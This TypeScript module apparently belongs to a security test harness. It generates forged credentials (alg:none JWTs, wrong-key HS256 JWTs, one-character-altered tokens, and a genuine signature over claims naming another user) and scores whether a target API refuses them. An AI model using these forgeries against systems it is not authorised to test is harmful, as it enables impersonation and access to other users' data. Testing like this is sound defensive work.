// Credentials an attacker can make without the target's key: built from a user's id alone, whatever the real token looks like.
import { createHmac, randomBytes } from 'node:crypto';

/** Who a forged token claims to be. */
export interface ForgedIdentity {
  id: string;
  email?: string;
  role?: string;
}

export interface Forgery {
  /** What was forged, as a finding would name it ("alg:none naming user A"). */
  name: string;
  token: string;
  /** The id of the user the token claims to be (its owner's bookings are where a 2xx proves the forgery). */
  names?: string;
}

const b64url = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

/**
 * Claims that name a user under every key servers commonly read it from (`sub`, `userId`, `id`), issued now and
 * expiring in the future, so that only a missing or wrong signature can make a target refuse them.
 */
export function identityClaims(who: ForgedIdentity, nowSeconds = Math.floor(Date.now() / 1000)): Record<string, unknown> {
  return {
    sub: who.id,
    userId: who.id,
    id: who.id,
    ...(who.email ? { email: who.email } : {}),
    role: who.role ?? 'TRAVELER',
    iat: nowSeconds,
    exp: nowSeconds + 900,
  };
}

/** A JWT with `alg: none` and an empty signature. */
export function unsignedJwt(claims: Record<string, unknown>): string {
  return `${b64url({ alg: 'none', typ: 'JWT' })}.${b64url(claims)}.`;
}

/** A well-formed HS256 JWT signed with a key the target does not have (random unless given). */
export function wrongKeyJwt(claims: Record<string, unknown>, key: Buffer | string = randomBytes(32)): string {
  const head = `${b64url({ alg: 'HS256', typ: 'JWT' })}.${b64url(claims)}`;
  return `${head}.${createHmac('sha256', key).update(head).digest('base64url')}`;
}

/**
 * The token with one letter or digit changed, in the middle of its last dot-separated part: the signature of a JWT
 * (away from its final character, whose low bits some base64 decoders ignore), the id in an opaque token.
 */
export function oneCharacterChanged(token: string): string {
  const start = token.lastIndexOf('.') + 1;
  const part = token.slice(start);
  const middle = Math.floor((part.length - 1) / 2);
  for (let offset = 0; offset < part.length; offset += 1) {
    const at = start + ((middle + offset) % part.length);
    const changed = nextAlphanumeric(token[at]!);
    if (changed) return `${token.slice(0, at)}${changed}${token.slice(at + 1)}`;
  }
  // No letter or digit in the last part (a token ending in "."): change the first one anywhere.
  const at = [...token].findIndex((c) => nextAlphanumeric(c) !== undefined);
  if (at < 0) throw new Error('the token has no letter or digit to change');
  return `${token.slice(0, at)}${nextAlphanumeric(token[at]!)}${token.slice(at + 1)}`;
}

/** The same payload under another user's signature: a real JWT's signature kept, its claims swapped. */
export function claimsSwapped(token: string, claims: Record<string, unknown>): string | undefined {
  const [header, payload, signature] = token.split('.');
  if (!header || !payload || !signature || token.split('.').length !== 3) return undefined;
  return `${header}.${b64url(claims)}.${signature}`;
}

/**
 * Every forgery to try, given the signed-in user's real token and two identities: `self` (the signed-in user) and
 * `other` (a second user, whose identity the forger has no credential for).
 */
export function forgeries(realToken: string, self: ForgedIdentity & { label: string }, other: ForgedIdentity & { label: string }): Forgery[] {
  const selfClaims = identityClaims(self);
  const otherClaims = identityClaims(other);
  const swapped = claimsSwapped(realToken, otherClaims);
  return [
    { name: `unsigned JWT (alg:none) naming ${self.label}`, token: unsignedJwt(selfClaims), names: self.id },
    { name: `JWT naming ${self.label} signed HS256 with a wrong key`, token: wrongKeyJwt(selfClaims), names: self.id },
    { name: `${self.label}'s token with one character changed`, token: oneCharacterChanged(realToken) },
    { name: `unsigned JWT (alg:none) naming ${other.label}`, token: unsignedJwt(otherClaims), names: other.id },
    { name: `JWT naming ${other.label} signed HS256 with a wrong key`, token: wrongKeyJwt(otherClaims), names: other.id },
    ...(swapped ? [{ name: `${self.label}'s signature over claims naming ${other.label}`, token: swapped, names: other.id }] : []),
  ];
}

function nextAlphanumeric(c: string): string | undefined {
  if (c >= '0' && c <= '9') return c === '9' ? '0' : String.fromCharCode(c.charCodeAt(0) + 1);
  if (c >= 'a' && c <= 'z') return c === 'z' ? 'a' : String.fromCharCode(c.charCodeAt(0) + 1);
  if (c >= 'A' && c <= 'Z') return c === 'Z' ? 'A' : String.fromCharCode(c.charCodeAt(0) + 1);
  return undefined;
}

export type ForgeryOutcome = 'refused' | 'accepted' | 'not-refused';

/** How a target answered a forged credential: refused as unauthenticated, accepted (2xx), or something else. */
export function judgeForgery(status: number, unauthenticatedStatus: number): ForgeryOutcome {
  if (status === unauthenticatedStatus) return 'refused';
  if (status >= 200 && status < 300) return 'accepted';
  return 'not-refused';
}
